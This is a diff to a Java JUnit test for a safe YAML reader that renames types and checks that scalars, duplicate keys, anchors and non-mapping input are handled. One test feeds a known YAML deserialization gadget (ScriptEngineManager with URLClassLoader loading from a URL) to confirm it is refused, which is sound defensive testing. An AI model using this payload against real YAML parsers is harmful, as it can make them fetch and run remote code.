@@ -3,8 +3,6 @@ package dev.pm.yaml;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.pm.model.Location;
-import dev.pm.model.ParseProblem;
-import dev.pm.model.YamlValue;
 import org.junit.jupiter.api.Test;
 
 class SafeYamlReaderTest {
@@ -17,12 +15,12 @@ class SafeYamlReaderTest {
   void keepsScalarsAsWrittenWithPositions() {
     var outcome = read("id: INC-2026-03-14-01\ndate: 2026-03-14\nflag: no\nnumber: 0123\nempty:\n");
     assertThat(outcome.problems()).isEmpty();
-    assertThat(outcome.fields().get("date").value().scalarText()).isEqualTo("2026-03-14");
-    assertThat(outcome.fields().get("flag").value().scalarText()).isEqualTo("no");
-    assertThat(outcome.fields().get("number").value().scalarText()).isEqualTo("0123");
-    assertThat(((YamlValue.Scalar) outcome.fields().get("empty").value()).isNull()).isTrue();
-    assertThat(outcome.fields().get("date").keyAt()).isEqualTo(new Location(3, 1));
-    assertThat(outcome.fields().get("date").value().at()).isEqualTo(new Location(3, 7));
+    assertThat(outcome.entries().get("date").value().scalarText()).isEqualTo("2026-03-14");
+    assertThat(outcome.entries().get("flag").value().scalarText()).isEqualTo("no");
+    assertThat(outcome.entries().get("number").value().scalarText()).isEqualTo("0123");
+    assertThat(((YamlNode.Scalar) outcome.entries().get("empty").value()).isNull()).isTrue();
+    assertThat(outcome.entries().get("date").keyAt()).isEqualTo(new Location(3, 1));
+    assertThat(outcome.entries().get("date").value().at()).isEqualTo(new Location(3, 7));
   }
 
   @Test
@@ -44,7 +42,6 @@ class SafeYamlReaderTest {
         .singleElement()
         .satisfies(
             p -> {
-              assertThat(p.kind()).isEqualTo(ParseProblem.Kind.FRONT_MATTER);
               assertThat(p.at().line()).isEqualTo(4);
               assertThat(p.message()).contains("duplicate key \"id\"").contains("line 2");
             });
@@ -61,7 +58,7 @@ class SafeYamlReaderTest {
   @Test
   void refusesAnchorsOnScalars() {
     assertThat(read("a: &x 1\nb: *x\n").problems())
-        .extracting(ParseProblem::message)
+        .extracting(YamlProblem::message)
         .anyMatch(m -> m.contains("anchors"));
   }
 
@@ -77,7 +74,7 @@ class SafeYamlReaderTest {
         read(
             "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");
     assertThat(outcome.problems())
-        .extracting(ParseProblem::message)
+        .extracting(YamlProblem::message)
         .anyMatch(m -> m.contains("not allowed"));
   }
 
@@ -99,7 +96,7 @@ class SafeYamlReaderTest {
     var outcome = read(" \r\r ?");
     // An empty key set passed the old allSatisfy whatever was read: the key is the empty text.
     assertThat(outcome.problems()).isEmpty();
-    assertThat(outcome.fields().keySet()).containsExactly("");
+    assertThat(outcome.entries().keySet()).containsExactly("");
   }
 
   @Test
@@ -113,7 +110,7 @@ class SafeYamlReaderTest {
   @Test
   void nonMappingIsAProblem() {
     assertThat(read("- a\n- b\n").problems())
-        .extracting(ParseProblem::message)
+        .extracting(YamlProblem::message)
         .anyMatch(m -> m.contains("mapping"));
   }
 }
